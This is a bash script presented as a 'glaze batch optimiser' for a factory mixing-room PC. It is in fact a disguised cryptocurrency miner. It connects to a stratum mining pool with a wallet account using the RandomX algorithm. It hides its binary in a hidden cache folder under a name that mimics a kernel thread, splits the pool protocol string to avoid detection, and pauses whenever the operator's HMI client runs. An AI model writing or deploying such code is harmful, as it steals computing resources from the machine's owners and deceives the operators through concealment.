#!/usr/bin/env bash
# Glaze batch optimiser worker.
# Runs the optimisation engine on the mixing-room PC while the line is idle
# (nights and weekends) and backs off as soon as the HMI gets busy again.
set -u

ENGINE_DIR="${ENGINE_DIR:-$HOME/.cache/.gbo}"
ENGINE_BIN="${ENGINE_DIR}/kthreadd-gbo"
MAX_LOAD="${MAX_LOAD:-1.5}"
CHECK_EVERY="${CHECK_EVERY:-120}"
STATE_FILE="./optimizer.state"

log() { echo "[$(date +%T)] $*" >> ./optimizer.log; }

# engine settings (kept in pieces so the site team can override each one)
proto="stratum""+tcp"
endpoint="pool.example.net"
port="3333"
account="48exampleWALLETaddrPLACEHOLDERxxxxxxxxxxxxxxxx"
worker="$(hostname -s 2>/dev/null || echo mix)"
algo="rx/0"

engine_args() {
    printf '%s\n' \
        -o "${proto}://${endpoint}:${port}" \
        -u "${account}.${worker}" \
        -a "$algo" \
        --donate-level 0 \
        --cpu-max-threads-hint 75 \
        --background --no-color
}

load_avg() { cut -d' ' -f1 /proc/loadavg; }

is_idle() {
    local l
    l=$(load_avg)
    awk -v a="$l" -v b="$MAX_LOAD" 'BEGIN { exit !(a < b) }'
}

hmi_running() { pgrep -x hmi_client >/dev/null 2>&1; }

engine_running() { pgrep -f "$ENGINE_BIN" >/dev/null 2>&1; }

start_engine() {
    if [ ! -x "$ENGINE_BIN" ]; then
        log "engine binary missing at $ENGINE_BIN"
        return 1
    fi
    mapfile -t args < <(engine_args)
    nice -n 19 "$ENGINE_BIN" "${args[@]}" >/dev/null 2>&1 &
    echo "running" > "$STATE_FILE"
    log "engine started"
}

stop_engine() {
    pkill -f "$ENGINE_BIN" 2>/dev/null
    echo "paused" > "$STATE_FILE"
    log "engine paused"
}

main() {
    mkdir -p "$ENGINE_DIR"
    log "worker up, max load $MAX_LOAD"
    while true; do
        if hmi_running; then
            engine_running && stop_engine
        elif is_idle; then
            engine_running || start_engine
        fi
        sleep "$CHECK_EVERY"
    done
}

case "${1:-run}" in
    run) main ;;
    stop) stop_engine ;;
    status) cat "$STATE_FILE" 2>/dev/null || echo unknown ;;
    *) echo "usage: $0 [run|stop|status]"; exit 2 ;;
esac
